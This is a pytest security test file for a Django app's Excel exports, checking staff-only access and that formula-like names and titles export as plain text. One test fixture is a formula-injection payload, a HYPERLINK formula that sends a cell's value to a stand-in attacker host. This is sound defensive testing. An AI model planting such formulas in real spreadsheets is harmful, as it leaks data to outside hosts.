"""Exports and imports: only committee staff may use them, and no exported cell can become an
Excel formula (a member named "=HYPERLINK(...)" or a proposal titled "=1+1" comes out as text)."""

from __future__ import annotations

import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports import figures as figures_module
from tests import factories as f
from tests.reports.conftest import FakeSources
from tests.test_permission_matrix import url_names

# (URL name, args, query, roles allowed besides staff). Leaders may download the two workbooks
# that hold only the aggregate figures they already see on their dashboard (statistics) and on
# the suggestion tracking report; everything with personal data or whole registers is staff only.
EXPORTS = [
    ("members:roster_export", [], "", ()),
    ("members:roster_template", [], "", ()),
    ("members:roster_import", [], "", ()),
    ("proposals:export", [], "", ()),
    ("quickreports:export", [], "", ()),
    ("reports:export_xlsx", [], "?year=2020", ("leader",)),
    ("consultations:tracking_report", [], "?year=2020&format=xlsx", ("leader",)),
    ("briefing:announcement_receipts_export", "announcement", "", ()),  # args: see _args
]
# Exports of one object, checked with their objects in the app's own tests (same rules: staff only,
# formula-like text stays text).
OBJECT_EXPORTS = {
    "participation:survey_export": "tests/participation/test_exports.py",
    "participation:deliberation_export": "tests/participation/test_exports.py",
}
EXPORT_LIKE = re.compile(r"export|import|xlsx|roster_template")
ROLES = ("member", "unit", "leader", "staff")


def test_every_export_or_import_url_is_listed():
    listed = {name for name, *_ in EXPORTS} | set(OBJECT_EXPORTS)
    unlisted = {name for name in url_names() if EXPORT_LIKE.search(name)} - listed
    assert not unlisted, f"export/import URLs not in tests/security/test_exports.py EXPORTS: {unlisted}"


@pytest.mark.parametrize(("name", "args", "query", "also"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_exports_and_imports_refused_to_other_roles(name, args, query, also, make_user, client, fake_sources):
    url = reverse(name, args=_args(args)) + query
    assert client.get(url)["Location"].startswith(reverse("login"))
    for role in ROLES:
        client.force_login(make_user(role))
        expected = 200 if role == "staff" or role in also else 403
        assert client.get(url).status_code == expected, (role, url)
        if name == "members:roster_import" and expected == 403:
            assert client.post(url, {}).status_code == 403


def _args(args):
    """Static URL args, or "announcement": a published announcement (members.briefing)."""
    if args != "announcement":
        return args
    from members.briefing.services import announcement_create

    f.MemberFactory()
    a = announcement_create(
        by=f.StaffUserFactory(), kind="notice", title="t", body="b", audience_kind="all_members", publish=True
    )
    return [a.pk]


@pytest.fixture
def fake_sources(monkeypatch):
    fake = FakeSources()
    monkeypatch.setattr(figures_module, "selector", fake.selector)
    return fake


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def assert_text_not_formula(content: bytes, *texts: str) -> None:
    found = set()
    for cell in cells(content):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if cell.value in texts:
            found.add(cell.value)
    assert found == set(texts), f"missing text cells: {set(texts) - found}"


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'


def test_roster_export_keeps_formula_like_names_as_text(staff_user, client_for):
    f.MemberFactory(name=HYPERLINK, work_unit="+1+1")
    response = client_for(staff_user).get(reverse("members:roster_export") + "?active=")
    assert_text_not_formula(response.content, HYPERLINK, "+1+1")


def test_proposal_register_export_keeps_formula_like_titles_as_text(staff_user, client_for):
    f.ProposalFactory(title="=1+1", status="submitted")
    f.ProposalFactory(title="@SUM(A1:A9)", status="submitted")
    response = client_for(staff_user).get(reverse("proposals:export"))
    assert response.status_code == 200
    assert_text_not_formula(response.content, "=1+1", "@SUM(A1:A9)")


def test_tracking_report_export_keeps_formula_like_text_as_text(staff_user, client_for):
    unit = f.HandlingUnitFactory(name="=2+2")
    f.AssignedSuggestionFactory(text="=1+1", unit=unit)
    response = client_for(staff_user).get(reverse("consultations:tracking_report") + "?year=2020&format=xlsx")
    assert_text_not_formula(response.content, "=1+1", "=2+2")


def test_statistics_export_keeps_formula_like_names_as_text(staff_user, client_for, fake_sources):
    fake_sources.data[2020]["unit_league"][0]["unit"] = "=3+3"
    fake_sources.data[2020]["proposal_categories"][0]["name"] = "-1+1"
    response = client_for(staff_user).get(reverse("reports:export_xlsx") + "?year=2020")
    assert_text_not_formula(response.content, "=3+3", "-1+1")
